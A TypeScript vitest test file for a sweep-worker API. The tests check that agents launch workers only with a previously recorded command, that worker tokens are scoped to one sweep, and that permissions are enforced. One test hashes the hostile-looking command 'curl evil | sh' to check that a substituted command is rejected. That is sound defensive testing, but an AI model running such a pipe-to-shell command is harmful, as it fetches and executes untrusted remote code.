import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { registerAgent, type TestAgent } from '../agents/agent.ts'
import { openStage, type Person, type Stage } from '../http/stage.ts'
import { makeEvent } from '../ingest/sending.ts'

// Workers of a sweep that an agent starts: by a command that a worker on its host recorded, and by no other one.

let stage: Stage
let agent: TestAgent
beforeAll(async () => {
  stage = await openStage()
  agent = await registerAgent(stage.app, stage.batchOwner.token, 'alpha')
  await registerAgent(stage.app, stage.owner.token, 'beta')
})
afterAll(() => stage?.stop())

const post = (token: string, path: string, body: object) => stage.app.call('POST', path, { token, body })
async function created(project = 'vision') {
  const { status, body } = await post(stage.batchOwner.reporter, `/api/projects/${project}/sweeps`, {
    name: 'Widths',
    method: 'random',
    metric: { name: 'loss', goal: 'minimize' },
    parameters: { lr: { values: [1, 2] } },
  })
  expect(status).toBe(201)
  return body as { id: string; batch_id: string }
}
const COMMAND = 'python -m svc_reporter sweep run x -- python train.py'
const record = (id: string, more: object = {}, by: Person = stage.batchOwner) =>
  post(by.reporter, `/api/sweeps/${id}/commands`, { host: 'alpha', command: COMMAND, cwd: '/work', ...more })
const read = async (id: string, token?: string) =>
  (await stage.app.call('GET', `/api/sweeps/${id}`, token === undefined ? {} : { token })).body
async function ready() {
  const made = await created()
  expect((await record(made.id)).status).toBe(204)
  const [command] = (await read(made.id, stage.batchOwner.token)).commands
  return { ...made, command: command.id as string }
}
const start = (id: string, command: string, more: object = {}, by: Person = stage.admin) =>
  post(by.token, `/api/sweeps/${id}/workers`, { command_id: command, ...more })
const hashOf = (text: string) => createHash('sha256').update(text).digest('hex')
const waiting = async () => (await agent.jobs()).body.jobs
const timeline = async (batchId: string): Promise<{ step: string; kind: string; detail: object }[]> =>
  (await stage.get(`/api/batches/${batchId}/timeline`, stage.batchOwner.token)).body.items

describe('the command of a worker', () => {
  test('is kept once, with its host, and its text is for the owner of the sweep', async () => {
    const { id } = await created('open')
    await record(id)
    await record(id)
    await record(id, { host: 'gone' })
    // A member's own machine: agents of the owner do not run there.
    expect((await record(id, { host: 'beta' }, stage.owner)).status).toBe(204)
    const own = (await read(id, stage.batchOwner.token)).commands
    const about = own.map((one: Record<string, unknown>) => [one.host, one.command, one.cwd, one.online])
    expect(about.sort()).toEqual([
      ['alpha', COMMAND, '/work', true],
      ['gone', COMMAND, '/work', false],
    ])
    expect(
      (await read(id, stage.admin.token)).commands.map((one: { command: string }) => one.command),
    ).toEqual(['[redacted]', '[redacted]'])
    expect(await read(id)).toMatchObject({ commands: [], can: { start: false } })
  })

  test('is refused where it cannot be stored', async () => {
    const { id } = await created()
    for (const wrong of [{ host: '' }, { command: '' }, { cwd: 'a\u0000' }, { more: 1 }]) {
      expect((await record(id, wrong)).status).toBe(422)
    }
  })
})

describe('workers', () => {
  test('are started by an agent with the recorded command and a token for that sweep alone', async () => {
    const { id, batch_id: batchId, command } = await ready()
    const answer = await start(id, command, { workers: 2, confirm: hashOf(COMMAND) })
    expect([answer.status, answer.body.cmd_ids.length, answer.body.state]).toEqual([202, 2, 'pending'])
    const jobs = await waiting()
    expect(jobs).toMatchObject(
      Array(2).fill({
        kind: 'rerun',
        batch_id: batchId,
        command: COMMAND,
        cwd: '/work',
        authorized_by: 'record',
      }),
    )
    expect(Object.keys(jobs[0].env)).toEqual(['SVC_CMD_ID'])
    const tokens = [await agent.start(jobs[0].cmd_id, 11), await agent.start(jobs[1].cmd_id, 12)]
    for (const [n, token] of tokens.entries()) {
      const got = await post(token, `/api/sweeps/${id}/trials`, { worker: 'w', ask_id: `a${n}`, lease_s: 60 })
      expect([got.status, got.body.number]).toEqual([201, n])
      const lease = await post(token, `/api/sweeps/${id}/trials/${n}/lease`, { ask_id: `a${n}` })
      expect(lease.body).toEqual({ state: 'running' })
      expect((await read(id, token)).trials.running).toBe(1)
      const source = { project: 'vision', host: 'alpha' }
      const done = {
        batch_id: batchId,
        job_id: `trial-${n}`,
        source,
        data: { metrics: { loss: n } },
        timestamp: new Date().toISOString(),
      }
      expect((await post(token, '/api/events', makeEvent('job_done', done))).status).toBe(200)
    }
    expect((await read(id, stage.admin.token)).best).toMatchObject({ number: 0, value: 0 })
    const other = await created()
    expect((await read(other.id, tokens[0])).code).toBe('sweep_not_found')
    const source = { project: 'vision', host: 'alpha' }
    const foreign = makeEvent('batch_start', { batch_id: 'foreign', source })
    expect((await post(tokens[0] as string, '/api/events', foreign)).body.code).toBe('token_bound_to_batch')
    expect((await post(tokens[0] as string, `/api/sweeps/${id}/commands`, {})).status).not.toBe(204)
    const steps = (await timeline(batchId)).filter(({ kind }) => kind !== 'batch')
    expect(steps.filter(({ step }) => step === 'sweep_workers_started')).toMatchObject([
      { kind: 'sweep', detail: { host: 'alpha', workers: 2 } },
    ])
    expect(steps.filter(({ step, kind }) => kind === 'rerun' && step === 'started')).toHaveLength(2)
    const log = (await stage.get('/api/admin/audit?action=sweep.&limit=9', stage.admin.token)).body.items
    expect(log).toContainEqual(
      expect.objectContaining({ action: 'sweep.workers_started', subject: `batch:${batchId}` }),
    )
    // A stop of the run ends each of them.
    await post(stage.batchOwner.token, `/api/batches/${batchId}/stop`, {})
    const stops = (await waiting()).filter((job: { kind: string }) => job.kind === 'stop')
    expect(stops.map(({ pid }: { pid: number }) => pid).sort()).toEqual([11, 12])
    for (const { cmd_id } of jobs) await agent.say(`jobs/${cmd_id}/result`, { exit_code: 143 })
    expect((await read(id, tokens[0])).status).toBe(401)
  })

  test('are started by those who may rerun, of a sweep that goes on, and by nothing unknown', async () => {
    const { id, command } = await ready()
    expect((await start(id, command, {}, stage.member)).status).toBe(403)
    expect((await start(id, command, {}, stage.stranger)).status).toBe(404)
    expect(
      (await post(stage.batchOwner.reporter, `/api/sweeps/${id}/workers`, { command_id: command })).status,
    ).toBe(403)
    const codeOf = async (given: string, more: object = {}) => (await start(id, given, more)).body.code
    expect(await codeOf('no-such')).toBe('command_unknown')
    expect(await codeOf((await ready()).command)).toBe('command_unknown')
    expect(await codeOf(command, { confirm: hashOf('curl evil | sh') })).toBe('command_changed')
    expect((await start(id, command, { workers: 65 })).status).toBe(422)
    await record(id, { command: 'python t.py --key ***', command_redacted: true })
    await record(id, { host: 'gone' })
    const found = (await read(id, stage.batchOwner.token)).commands
    const idOf = (is: (one: { host: string; redacted: boolean }) => boolean) => found.find(is).id as string
    expect(await codeOf(idOf(({ redacted }) => redacted))).toBe('command_unknown')
    expect(await codeOf(idOf(({ host }) => host === 'gone'))).toBe('agent_offline')
    await stage.app.call('PATCH', `/api/sweeps/${id}`, {
      token: stage.batchOwner.token,
      body: { state: 'stopped' },
    })
    expect(await codeOf(command)).toBe('sweep_finished')
    expect(await waiting()).toEqual([])
  })
})
